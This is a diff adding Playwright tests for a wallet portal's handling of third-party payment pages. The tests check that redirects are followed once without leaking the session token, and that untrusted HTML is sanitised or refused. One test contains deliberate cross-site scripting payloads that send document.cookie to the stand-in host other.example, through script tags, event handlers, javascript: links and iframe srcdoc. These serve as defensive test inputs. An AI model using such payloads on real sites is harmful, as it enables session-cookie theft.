@@ -1,0 +1,303 @@
+import type { Page, Request } from '@playwright/test'
+import { expect, test } from '../../support/browser/browser.ts'
+import { type PortalServer, startPortalServer } from '../../support/browser/portal-server.ts'
+import { openSignIn } from '../../support/browser/screens.ts'
+import { serveSourceModules } from '../../support/browser/source-modules.ts'
+
+const token = 'kept-to-ourselves'
+const pay = 'https://pay.example'
+const other = 'https://other.example'
+
+let server: PortalServer
+test.beforeAll(async () => {
+  server = await startPortalServer({ env: { PAYMENT_ORIGINS: pay } })
+})
+test.afterAll(() => server.close())
+
+/** What a page of the portal is doing while it shows another: `left` once everything of the portal was ended. */
+declare global {
+  interface Window {
+    left?: boolean
+  }
+}
+
+/** The portal's own page under its own headers, with a session; and what its browser then asks of others. */
+const openPortal = async (page: Page, { answersSession = false } = {}) => {
+  const elsewhere: Request[] = []
+  page.on('request', request => {
+    if (!request.url().startsWith(server.origin())) elsewhere.push(request)
+  })
+  for (const host of [pay, other])
+    await page.route(`${host}/**`, route =>
+      route.fulfill({ contentType: 'text/html', body: '<title>Elsewhere</title><h1>Elsewhere</h1>' }),
+    )
+  // A tab that nobody is signed in to asks about a cookie that turns up (S4); here nothing is to come of it.
+  if (!answersSession) await page.route('**/authenticate/session', () => {})
+  await serveSourceModules(page, server.origin())
+  await openSignIn(page, server.origin())
+  await page
+    .context()
+    .addCookies([{ name: 'sessionToken', value: token, url: server.origin(), sameSite: 'Strict' }])
+
+  return {
+    elsewhere,
+    /** Gives a page to the port. 'moved': the browser went on before it could be asked. */
+    show: (html: string) =>
+      page
+        .evaluate(
+          async ({ module, html }) => {
+            const { browserPaymentPage } = await import(module)
+            const leave = () => {
+              window.left = true
+            }
+            const { show } = browserPaymentPage(document, location, leave, 'Back to your wallet')
+            return show(html).then(
+              () => 'shown',
+              (error: unknown) => String(error),
+            )
+          },
+          { module: '/src/ports/page/payment-page.ts', html },
+        )
+        .catch(() => 'moved'),
+    left: () => page.evaluate(() => window.left ?? false),
+  }
+}
+
+/** The one request that left the portal, and that nothing of the session went along. */
+const onlyRequest = async (elsewhere: readonly Request[]) => {
+  expect(elsewhere.map(request => request.isNavigationRequest())).toEqual([true])
+  const [request] = elsewhere
+  const headers = (await request?.allHeaders()) ?? {}
+  const told = { method: request?.method(), url: request?.url(), body: request?.postData() }
+  expect(JSON.stringify({ ...told, headers })).not.toContain(token)
+  expect(Object.keys(headers)).not.toContain('referer')
+  return told
+}
+
+const pageOf = (body: string, head = '') =>
+  `<!doctype html><html><head><title>Payment</title>${head}</head><body>${body}</body></html>`
+const fields = '<input type="hidden" name="PAY_REQUEST_ID" value="7"><input name="CHECKSUM" value="a b">'
+const posted = { method: 'POST', url: `${pay}/process`, body: 'PAY_REQUEST_ID=7&CHECKSUM=a+b' }
+
+test.describe('a page with one way on is followed, once', () => {
+  for (const { name, html, expected } of [
+    {
+      name: 'a form that sends itself when it has loaded',
+      html: pageOf(`<form action="${pay}/process" method="post" name="f">${fields}</form>`).replace(
+        '<body>',
+        '<body onload="document.f.submit()">',
+      ),
+      expected: posted,
+    },
+    {
+      name: 'a form with a button',
+      html: pageOf(
+        `<p>Go on</p><form action="${pay}/process" method="post" target="_blank">${fields}<button>Pay</button></form>`,
+      ),
+      expected: posted,
+    },
+    {
+      name: 'a form whose fields are called like what a form can do',
+      html: pageOf(
+        `<form action="${pay}/process" method="post"><input name="submit" value="1"><input name="action" value="${other}/"></form>`,
+      ),
+      expected: {
+        method: 'POST',
+        url: `${pay}/process`,
+        body: `submit=1&action=${encodeURIComponent(`${other}/`)}`,
+      },
+    },
+    {
+      name: 'a form before any other way',
+      html: pageOf(
+        `<form action=" ${pay}/process " method="post">${fields}</form><script>location.href='${other}/'</script>`,
+        `<meta http-equiv="refresh" content="0;url=${other}/">`,
+      ),
+      expected: posted,
+    },
+    {
+      name: 'a refresh',
+      html: pageOf('<p>One moment</p>', `<meta http-equiv="Refresh" content="0; url=${pay}/go?id=7">`),
+      expected: { method: 'GET', url: `${pay}/go?id=7`, body: null },
+    },
+    {
+      name: 'an address in a script',
+      html: pageOf(`<script>window.location.href = "${pay}/go?id=7";</script>`),
+      expected: { method: 'GET', url: `${pay}/go?id=7`, body: null },
+    },
+  ])
+    test(name, async ({ page }) => {
+      const { show, elsewhere } = await openPortal(page)
+      await show(html)
+      await expect(page.getByRole('heading', { name: 'Elsewhere' })).toBeVisible()
+      expect(await onlyRequest(elsewhere)).toEqual(expected)
+      expect(page.context().pages()).toHaveLength(1)
+    })
+})
+
+test('a page on this machine may be led to, from this machine', async ({ page }) => {
+  const { show, elsewhere } = await openPortal(page)
+  await show(pageOf(`<form action="${server.origin()}/robots.txt"><button>Continue</button></form>`))
+  await expect(page).toHaveURL(`${server.origin()}/robots.txt?`)
+  expect(elsewhere).toEqual([])
+})
+
+test.describe('a page that leaves a choice, or leads nowhere, stays', () => {
+  test('plain text takes the place of the portal, and a button below it leads back there', async ({
+    page,
+    problems,
+  }) => {
+    problems.expect(/401 \(Unauthorized\).*authenticate\/session/)
+    const { show, left, elsewhere } = await openPortal(page, { answersSession: true })
+    expect(await show('We have sent a request to your bank. Approve it there.')).toBe('shown')
+    expect(await page.locator('body').innerText()).toBe(
+      'We have sent a request to your bank. Approve it there.\nBack to your wallet',
+    )
+    expect({ left: await left(), elsewhere }).toEqual({ left: true, elsewhere: [] })
+    await page.getByRole('button', { name: 'Back to your wallet' }).click()
+    await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
+  })
+
+  test('what can be pressed stands alone', async ({ page }) => {
+    const { show } = await openPortal(page)
+    await show(pageOf(`<p>Approved.</p><a href="${pay}/go">Go on</a>`))
+    await expect(page.getByRole('link')).toHaveText(['Go on'])
+    await expect(page.getByRole('button')).toHaveCount(0)
+  })
+
+  test('of two forms the consumer chooses one', async ({ page }) => {
+    const { show, elsewhere } = await openPortal(page)
+    const form = (label: string) =>
+      `<form action="${pay}/${label.toLowerCase()}" method="post"><button>${label}</button></form>`
+    const script = `<script>function cancel(){location.href='${pay}/cancelled'}</script>`
+    expect(await show(pageOf(`<h1>How?</h1>${form('Card')}${form('Bank')}${script}`))).toBe('shown')
+    await expect(page).toHaveTitle('Payment')
+    await expect(page.getByRole('heading', { name: 'How?' })).toBeVisible()
+    expect(await page.evaluate(() => innerWidth)).toBe(page.viewportSize()?.width)
+    expect(elsewhere).toEqual([])
+    await page.getByRole('button', { name: 'Bank' }).click()
+    await expect(page.getByRole('heading', { name: 'Elsewhere' })).toBeVisible()
+    expect(await onlyRequest(elsewhere)).toMatchObject({ method: 'POST', url: `${pay}/bank` })
+  })
+
+  test('what it has for browsers without scripts is shown', async ({ page }) => {
+    const { show } = await openPortal(page)
+    await show(
+      pageOf(`<noscript><p>Press to go on.</p><a href="${pay}/go" target="_top">Go on</a></noscript>`),
+    )
+    await expect(page.getByText('Press to go on.')).toBeVisible()
+    await page.getByRole('link', { name: 'Go on' }).click()
+    await expect(page.getByRole('heading', { name: 'Elsewhere' })).toBeVisible()
+  })
+
+  test('the browser’s Back brings the portal back', async ({ page, problems }) => {
+    problems.expect(/401 \(Unauthorized\).*authenticate\/session/)
+    const { show } = await openPortal(page, { answersSession: true })
+    await page.evaluate(() => history.pushState(null, '', '#/dashboard?service=topup'))
+    await show('Approve it at your bank.')
+    await page.goBack()
+    await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
+  })
+})
+
+test('nothing of a page runs, is fetched, framed or sent by itself, and no policy is offended by it', async ({
+  page,
+}) => {
+  const { show, elsewhere } = await openPortal(page)
+  const steal = (how: string) => `${how}='${other}/?c='+document.cookie`
+  const outcome = await show(
+    pageOf(
+      `<h1>Payment</h1>
+      <script>new Image().src='${other}/?c='+document.cookie;${steal('location.href')}</script>
+      <script src="${other}/steal.js"></script>
+      <img src="x" onerror="${steal('location')}"><img srcset="${other}/1.png 2x" alt="">
+      <img src="http://other.example/2.png" alt="">
+      <svg onload="${steal('location')}"><a href="${other}"><text>in svg</text></a></svg>
+      <iframe src="${other}" srcdoc="<script>${steal('parent.location')}</script>"></iframe>
+      <object data="${other}/o"></object><embed src="${other}/e"><video src="${other}/v" autoplay></video>
+      <a id="script" href="javascript:${steal('location')}" ping="${other}/ping">Go</a>
+      <a id="data" href="data:text/html,x">Go</a><a id="plain" href="http://other.example/">Go</a>
+      <a id="relative" href="/api/network/express/wallet">Go</a><a id="safe" href="${pay}/x" target="_blank">Go</a>
+      <div style="background:url(${other}/bg)" onmouseover="${steal('location')}" autofocus>Text</div>
+      <p title='a > b'OnClick="${steal('location')}"/style="color:red" onfocus=go() class=plain>Odd</p>
+      <math><mtext>in math</mtext></math><template><img src="${other}/t"></template>
+      <table background="http://other.example/b"><tbody><tr><td>Cell</td></tr></tbody></table>`,
+      `<base href="${other}/"><link rel="stylesheet" href="${other}/s.css"><style>body{color:red}</style>
+      <meta http-equiv="Content-Security-Policy" content="form-action ${other}">
+      <meta http-equiv="refresh" content="0;url=javascript:${steal('location')}">`,
+    ),
+  )
+  expect(outcome).toBe('shown')
+  await page.getByText('Text').hover()
+  await page.locator('#script').click()
+  await page.locator('#data').click()
+  expect(
+    await page.evaluate(() => ({
+      elements: [...new Set([...document.querySelectorAll('*')].map(({ localName }) => localName))].sort(),
+      attributes: [...document.querySelectorAll('body *')].flatMap(element =>
+        element.getAttributeNames().map(name => `${element.localName} ${name}=${element.getAttribute(name)}`),
+      ),
+      metas: [...document.querySelectorAll('meta')].map(({ name }) => name),
+      url: location.href,
+    })),
+  ).toEqual({
+    elements: [
+      'a',
+      'body',
+      'div',
+      'h1',
+      'head',
+      'html',
+      'img',
+      'meta',
+      'p',
+      'table',
+      'tbody',
+      'td',
+      'title',
+      'tr',
+    ],
+    attributes: [
+      'img alt=',
+      'img alt=',
+      'a id=script',
+      'a id=data',
+      'a id=plain',
+      'a id=relative',
+      'a id=safe',
+      `a href=${pay}/x`,
+      'div autofocus=',
+      'p title=a > b',
+      'p class=plain',
+    ],
+    metas: ['viewport'],
+    url: expect.stringContaining(server.origin()),
+  })
+  expect(elsewhere).toEqual([])
+})
+
+test('a page that may be neither shown nor followed is refused, and the portal stays', async ({ page }) => {
+  const { show, left, elsewhere } = await openPortal(page)
+  for (const [name, html] of [
+    ['a form over plain http', pageOf('<form action="http://pay.example/"><button>Pay</button></form>')],
+    [
+      'a form of its own address',
+      pageOf('<form action="/process" method="post"><button>Pay</button></form>'),
+    ],
+    ['a form without an address', pageOf('<form method="post"><button>Pay</button></form>')],
+    ['nothing to see', pageOf('<script>start()</script>')],
+    [
+      'only scripts that put an address together',
+      pageOf(`<script>location='${other}/?'+document.cookie</script>`),
+    ],
+    [
+      'fields that stand in the way of its cleaning',
+      pageOf(`<form action="${pay}/"><input name="getAttribute"><input name="getAttributeNames"></form>`),
+    ],
+  ] as const)
+    await test.step(name, async () => {
+      expect(await show(html)).toMatch(/Error/)
+      await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
+      expect({ left: await left(), elsewhere }).toEqual({ left: false, elsewhere: [] })
+    })
+})
